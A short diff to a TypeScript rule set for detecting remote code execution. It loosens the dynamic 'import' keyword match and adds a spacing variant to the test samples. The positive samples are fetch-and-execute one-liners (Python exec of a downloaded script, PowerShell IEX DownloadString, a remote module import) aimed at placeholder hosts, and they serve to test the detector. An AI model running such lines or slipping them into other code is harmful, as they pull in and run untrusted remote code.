@@ -90,7 +90,7 @@ export const executionRules: readonly Rule[] = [
       'exec',
       'eval',
       'function',
-      'import(',
+      'import',
       'require(',
       'downloadstring',
       'iex',
@@ -104,7 +104,7 @@ export const executionRules: readonly Rule[] = [
       positive: [
         'exec(urllib.request.urlopen("http://203.0.113.4/s.py").read())',
         'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.4/a")',
-        'await import("https://cdn.example.invalid/m.js")',
+        'await import ("https://cdn.example.invalid/m.js")',
       ],
       negative: ['data = requests.get(url).json()', 'const res = await fetch(url)'],
     },
